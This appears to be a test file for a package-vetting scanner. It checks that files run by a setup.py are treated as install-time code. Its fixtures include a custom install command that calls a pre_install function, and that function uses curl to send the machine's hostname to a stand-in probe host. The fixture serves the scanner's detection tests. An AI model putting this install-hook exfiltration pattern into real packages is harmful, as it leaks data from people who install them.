"""Files a setup.py runs at install time are judged as install-time code."""

from __future__ import annotations

from pathlib import Path

from depvet.detectors.install_reach import promote, run_by_setup
from depvet.model import Scope, Target, TargetKind, Verdict
from depvet.scan import ScanOptions, scan
from tests.builders import make_sdist

FILES = {
    "pre_install.py": "pkg-1.0/pre_install.py",
    "tools/beacon.py": "pkg-1.0/tools/beacon.py",
    "pkg/__init__.py": "pkg-1.0/pkg/__init__.py",
    "pkg/collect.py": "pkg-1.0/pkg/collect.py",
    "versioneer.py": "pkg-1.0/versioneer.py",
    "bin/tool.py": "pkg-1.0/bin/tool.py",
}


def reached(source: str) -> set[str]:
    return run_by_setup(source.encode(), FILES)


def test_imported_single_file_modules_and_started_scripts() -> None:
    assert reached("from pre_install import pre_install\n") == {"pkg-1.0/pre_install.py"}
    assert reached(
        "import subprocess, sys\nsubprocess.run([sys.executable, 'tools/beacon.py'])\n"
    ) == {"pkg-1.0/tools/beacon.py"}
    assert reached("import os\nos.system('python3 ./tools/beacon.py &')\n") == {
        "pkg-1.0/tools/beacon.py"
    }
    assert reached(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.collect'])\n"
    ) == {"pkg-1.0/pkg/collect.py"}
    assert reached("exec(open('tools/beacon.py').read())\n") == {"pkg-1.0/tools/beacon.py"}


def test_what_honest_setup_files_do_is_not_followed() -> None:
    assert reached("from pkg import __version__\n") == set()  # the package itself
    assert reached("setup(scripts=['bin/tool.py'])\n") == set()  # installed, not run
    assert reached("print('run python tools/beacon.py by hand')\n") == set()
    assert reached("def broken(:\n") == set()
    # versioneer is imported and does run: followed, like any single-file module.
    assert reached("import versioneer\n") == {"pkg-1.0/versioneer.py"}


def test_promote_changes_only_the_reached_files() -> None:
    from depvet.detectors.patterns import OOB_INTERACTION

    inside = OOB_INTERACTION.finding(
        path="pkg-1.0/pre_install.py", line=3, message="m", evidence="e"
    )
    outside = OOB_INTERACTION.finding(path="pkg-1.0/pkg/x.py", line=3, message="m", evidence="e")
    done = promote([inside, outside], {"pkg-1.0/pre_install.py"})
    assert done[0].scope is Scope.INSTALL and "setup.py runs this file" in done[0].message
    assert done[1] == outside


PRE_INSTALL = """\
import os


def pre_install():
    os.system('curl -s -d "$(hostname)" https://probe.oast.example.invalid.m.pipedream.net')
"""

SETUP = """\
from setuptools import setup
from setuptools.command.install import install
from pre_install import pre_install


class CustomInstall(install):
    def run(self):
        pre_install()
        super().run()


setup(name="pkg", version="1.0", cmdclass={"install": CustomInstall})
"""


def test_a_probe_handed_to_a_local_module_is_found(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "pkg", "1.0", {"setup.py": SETUP, "pre_install.py": PRE_INSTALL})
    (tmp_path / "alone").mkdir()
    alone = make_sdist(tmp_path / "alone", "pkg", "1.0", {"pre_install.py": PRE_INSTALL})
    results, _summary, _errors = scan(
        [Target(kind=TargetKind.FILE, path=p, display=p.name) for p in (sdist, alone)],
        ScanOptions(jobs=1),
    )
    handed, unreferenced = results
    assert handed.verdict is not Verdict.CLEAN
    assert "combination:install-exfiltration" in handed.decided_by
    assert any("setup.py runs this file" in f.message for f in handed.findings)
    assert unreferenced.verdict is Verdict.CLEAN
